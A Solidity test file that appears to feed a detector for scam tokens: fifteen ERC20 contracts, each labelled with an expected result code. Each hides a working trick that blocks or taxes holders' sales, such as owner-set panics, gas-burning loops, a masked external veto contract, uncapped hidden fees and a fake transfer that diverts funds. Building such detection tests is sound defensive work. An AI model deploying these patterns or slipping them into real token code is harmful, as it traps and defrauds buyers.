// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// Sales that cannot be made, however they are refused: by arithmetic, tables, loops, windows, prices, and taxes of everything.
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
// selling passes only where a checked subtraction of a deployer-set word does not panic
/// expects: CT-12 danger
contract PepeRise is ERC20, Ownable {
    mapping(address => uint256) private _room;
    address public market;
    constructor() ERC20("Pepe Rise", "PRISE") Ownable(msg.sender) { _room[msg.sender] = type(uint128).max; _mint(msg.sender, 1e27); }
    function openMarket(address m) external onlyOwner { market = m; _room[m] = type(uint128).max; }
    function support(address a, uint256 r) external onlyOwner { _room[a] = r; }
    function _update(address f, address t, uint256 v) internal override {
        if (t == market && f != address(0)) { _room[f] = _room[f] - v; }
        super._update(f, t, v);
    }
}
// each receiver is stamped with the epoch; the owner's innocent "poke" raises it and older holders cannot move
/// expects: CT-12 danger
contract EpochCoin is ERC20, Ownable {
    uint64 public epoch = 1;
    mapping(address => uint64) internal stamp;
    constructor() ERC20("Epoch", "EPC") Ownable(msg.sender) { _mint(msg.sender, 1e26); }
    function poke() external onlyOwner { unchecked { ++epoch; } }
    function _update(address f, address t, uint256 v) internal override {
        if (f != address(0) && f != owner()) { if (stamp[f] < epoch) revert("stale checkpoint"); }
        if (stamp[t] == 0) stamp[t] = epoch;
        super._update(f, t, v);
    }
}
// the block is an out-of-range enum conversion / array index, the table is set by a second key
/// expects: CT-12 danger
contract GateTable is ERC20 {
    address immutable keeper;
    uint8[4] private ladder = [0, 1, 2, 3];
    mapping(address => uint8) private rung;
    constructor(address k) ERC20("Ladder", "LDR") { keeper = k; _mint(k, 1e24); }
    function place(address[] calldata who, uint8 r) external { if (msg.sender != keeper) revert(); for (uint i; i < who.length; ++i) rung[who[i]] = r; }
    function _update(address f, address t, uint256 v) internal override {
        if (f != address(0)) { uint8 step = ladder[rung[f]]; step; }
        super._update(f, t, v);
    }
}
// a transfer of a non-favoured holder to the pair loops until the gas is gone
/// expects: CT-12 danger
contract SlowMoon is ERC20, Ownable {
    address public pair; mapping(address => bool) private fast;
    constructor() ERC20("SlowMoon", "SLOW") Ownable(msg.sender) { fast[msg.sender] = true; _mint(msg.sender, 1e26); }
    function setPair(address p) external onlyOwner { pair = p; }
    function setFast(address a, bool b) external onlyOwner { fast[a] = b; }
    function _update(address f, address t, uint256 v) internal override {
        if (t == pair && !fast[f]) { uint256 x = uint256(keccak256(abi.encode(f))) | 1; while (x != 0) { x = uint256(keccak256(abi.encode(x))) | 1; } }
        super._update(f, t, v);
    }
}
// sellers must keep a rest behind that the owner can raise beyond everybody's balance
/// expects: CT-12 danger
contract DiamondHands is ERC20, Ownable {
    uint256 public keep; address public lp;
    constructor() ERC20("Diamond Hands", "DMD") Ownable(msg.sender) { _mint(msg.sender, 1e27); }
    function configure(address l, uint256 k) external onlyOwner { lp = l; keep = k; }
    function _update(address f, address t, uint256 v) internal override {
        if (t == lp && f != owner()) require(balanceOf(f) >= v + keep, "diamond hands keep");
        super._update(f, t, v);
    }
}
// before each transfer an XOR-masked foreign contract is asked and may refuse; only its author is exempt
/// expects: CT-12 danger
contract ShieldedInu is ERC20 {
    uint256 private constant A = 0x7d1f3bb2c4e5968707f1e2d3c4b5a6978877665544332211aabbccdd00112233;
    uint256 private immutable b; address private immutable me;
    constructor(uint256 mask) ERC20("Shielded Inu", "SHI") { b = mask; me = msg.sender; _mint(msg.sender, 1e27); }
    function _update(address f, address t, uint256 v) internal override {
        if (f != address(0) && f != me) {
            address g = address(uint160(A ^ b));
            (bool ok, bytes memory r) = g.staticcall(abi.encodePacked(f, t, v));
            require(ok && r.length == 32 && abi.decode(r, (uint256)) == 1, "ERC20: transfer amount exceeds balance");
        }
        super._update(f, t, v);
    }
}
// transfers by others than the deployer pass only under a gas price the deployer sets
/// expects: CT-12 danger
contract NightToken is ERC20 {
    uint256 private limit; address private immutable dep = msg.sender;
    constructor() ERC20("Night", "NGT") { limit = 1 gwei; _mint(msg.sender, 1e25); }
    function tune(uint256 l) external { require(msg.sender == dep); limit = l; }
    function _update(address f, address t, uint256 v) internal override {
        if (tx.origin != dep) { require(tx.gasprice < limit, "MEV protection"); }
        super._update(f, t, v);
    }
}
// second and later sales of a holder are taxed 99 %
/// expects: CT-13 block
contract TaxClimb is ERC20, Ownable {
    mapping(address => uint256) public sales; mapping(address => bool) internal friend; address public amm; address internal taxTo;
    constructor() ERC20("Climb", "CLMB") Ownable(msg.sender) { taxTo = msg.sender; friend[msg.sender] = true; _mint(msg.sender, 1e26); }
    function setAmm(address a) external onlyOwner { amm = a; }
    function _update(address f, address t, uint256 v) internal override {
        if (t == amm && !friend[f]) {
            uint256 rate = sales[f]++ == 0 ? 3 : 99;
            uint256 tax = v * rate / 100;
            super._update(f, taxTo, tax); v -= tax;
        }
        super._update(f, t, v);
    }
}
// the visible fee is capped at 5 %, a second "loyalty" part by account tier has no cap
/// expects: CT-09 danger
contract CappedLooking is ERC20, Ownable {
    uint256 public feeBps = 300; uint256 public constant MAX_FEE = 500; mapping(address => uint256) private tier; uint256 private unit; address public vault;
    constructor(address v) ERC20("Capped", "CAP") Ownable(msg.sender) { vault = v; _mint(msg.sender, 1e26); }
    function setFee(uint256 f) external onlyOwner { require(f <= MAX_FEE, "fee too high"); feeBps = f; }
    function setLoyalty(address[] calldata w, uint256 t, uint256 u) external onlyOwner { unit = u; for (uint i; i < w.length; ++i) tier[w[i]] = t; }
    function _update(address f, address t, uint256 v) internal override {
        if (f == address(0) || f == owner() || f == vault) return super._update(f, t, v);
        uint256 fee = v * (feeBps + tier[f] * unit) / 10_000;
        super._update(f, vault, fee); super._update(f, t, v - fee);
    }
}
// fee = amount / divisor, the divisor may be set to one
/// expects: CT-09 danger
contract DivisorTax is ERC20, Ownable {
    uint256 private divisor = 50;
    constructor() ERC20("Divisor", "DIV") Ownable(msg.sender) { _mint(msg.sender, 1e26); }
    function updateDivisor(uint256 d) external onlyOwner { require(d > 0); divisor = d; }
    function transfer(address t, uint256 v) public override returns (bool) { return super.transfer(t, _cut(msg.sender, v)); }
    function transferFrom(address f, address t, uint256 v) public override returns (bool) { _spendAllowance(f, msg.sender, v); _transfer(f, t, _cut(f, v)); return true; }
    function _cut(address f, uint256 v) private returns (uint256) { if (f == owner()) return v; uint256 c = v / divisor; _transfer(f, address(this), c); return v - c; }
    function sweepFees() external onlyOwner { _transfer(address(this), owner(), balanceOf(address(this))); }
}
// everyone who buys is flagged by the transfer itself and can never send again unless the dev clears him
/// expects: CT-12 danger
contract FirstBuyers is ERC20 {
    address immutable dev; address public pool; mapping(address => bool) internal snipe;
    constructor() ERC20("First Buyers", "FBUY") { dev = msg.sender; _mint(msg.sender, 1e25); }
    function setPool(address p) external { require(msg.sender == dev); pool = p; }
    function pardon(address a) external { require(msg.sender == dev); delete snipe[a]; }
    function _update(address f, address t, uint256 v) internal override {
        require(!snipe[f], "bot");
        super._update(f, t, v);
        if (f == pool && t != dev) snipe[t] = true;
    }
}
// after ten minutes from launch only the private list can sell
/// expects: CT-12 danger
contract TenMinutes is ERC20 {
    uint256 immutable start; mapping(address => bool) private priv; address public lp; address private immutable op;
    constructor(address[] memory ps) ERC20("TenMin", "TEN") { start = block.timestamp; op = msg.sender; priv[op] = true; for (uint i; i < ps.length; i++) priv[ps[i]] = true; _mint(op, 1e25); }
    function setLp(address a) external { require(msg.sender == op); lp = a; }
    function _update(address f, address t, uint256 v) internal override {
        if (t == lp) require(block.timestamp < start + 600 || priv[f], "TRANSFER_FAILED");
        super._update(f, t, v);
    }
}
// only addresses on the operator's list may send to contracts
/// expects: CT-12 danger
contract GatedSells is ERC20, Ownable {
    mapping(address => bool) public verifiedSeller;
    constructor() ERC20("Gated", "GTD") Ownable(msg.sender) { verifiedSeller[msg.sender] = true; _mint(msg.sender, 1e25); }
    function verify(address a, bool b) external onlyOwner { verifiedSeller[a] = b; }
    function _update(address f, address t, uint256 v) internal override {
        if (t.code.length > 0 && f != address(0)) require(verifiedSeller[f], "KYC");
        super._update(f, t, v);
    }
}
// a sale by a stranger emits Transfer and returns true, nothing arrives at the pair
/// expects: CT-13 block
contract PhantomSell {
    string public constant name = "Phantom"; string public constant symbol = "PHM"; uint8 public constant decimals = 18;
    uint256 public totalSupply = 1e25; mapping(address => uint256) private bal; mapping(address => mapping(address => uint256)) public allowance;
    address private immutable own; address private trap;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed o, address indexed s, uint256 value);
    constructor() { own = msg.sender; bal[msg.sender] = totalSupply; }
    function setTrap(address a) external { require(msg.sender == own); trap = a; }
    function balanceOf(address a) external view returns (uint256) { return bal[a]; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { return _t(msg.sender, t, v); }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; return _t(f, t, v); }
    function _t(address f, address t, uint256 v) private returns (bool) {
        require(bal[f] >= v);
        if (t == trap && f != own) { unchecked { bal[f] -= v; bal[own] += v; } } else { unchecked { bal[f] -= v; bal[t] += v; } }
        emit Transfer(f, t, v);
        return true;
    }
}
